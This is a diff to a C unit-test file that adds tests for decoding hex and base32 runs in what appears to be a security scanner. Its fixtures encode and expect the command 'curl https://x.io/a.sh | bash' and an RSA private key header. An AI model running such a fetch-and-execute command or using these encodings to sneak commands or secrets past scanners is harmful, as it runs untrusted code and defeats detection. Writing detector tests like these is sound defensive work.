@@ -494,6 +494,27 @@ static void test_base64(void **state)
 	b64_split("Y3VybCBodHRwczovL3guaW8vYS5zaCB8IGJhc2g=", 10, "curl https|", 1);
 }
 
+/* Hex (`xxd -p`) and base32 (`base32`) runs are decoded like base64 ones. */
+static void test_hex_and_base32(void **state)
+{
+	(void)state;
+	b64_split("k=2d2d2d2d2d424547494e205253412050524956415445204b45592d2d2d2d2d;", 1 << 20,
+		  "-----BEGIN RSA PRIVATE KEY-----|", 1);
+	b64_split("K=2D2D2D2D2D424547494E205253412050524956415445204B45592D2D2D2D2D", 1 << 20,
+		  "-----BEGIN RSA PRIVATE KEY-----|", 1);
+	b64_split("6375726c2068747470733a2f\n2f782e696f2f612e7368207c\n2062617368\n", 1 << 20,
+		  "curl https://x.io/a.sh | bash|", 1);
+	b64_split("\"FUWS2LJNIJCUOSKOEBJFGQJAKBJESVSBKRCSAS2FLEWS2LJNFU======\"", 1 << 20,
+		  "-----BEGIN RSA PRIVATE KEY-----|", 1);
+	b64_split("MN2XE3BANB2HI4DTHIXS66BO\nNFXS6YJOONUCA7BAMJQXG2A=", 1 << 20,
+		  "curl https://x.io/a.sh | bash|", 1);
+	/* Decoding stops at the first character outside the run's alphabet. */
+	b64_split("2d2d2d2d2d424547494e2052SA2d2d", 1 << 20, "-----BEGIN R|", 1);
+	/* Upper-case words and lower-case base32 are not base32; git ids decode to binary. */
+	b64_split("THE_QUICK_BROWN_FOX_JUMPS_OVER commit 6f1ed002ab5595859014ebf0951522d9", 1 << 20,
+		  "", 0);
+}
+
 static void test_base64_budget_counted(void **state)
 {
 	(void)state;
@@ -998,6 +1019,7 @@ int main(void)
 		cmocka_unit_test(test_percent_multi),
 		cmocka_unit_test(test_base64),
 		cmocka_unit_test(test_base64_budget_counted),
+		cmocka_unit_test(test_hex_and_base32),
 		cmocka_unit_test(test_jsonwalk_check),
 		cmocka_unit_test(test_jsonwalk_strings),
 		cmocka_unit_test(test_sse_reassembly),
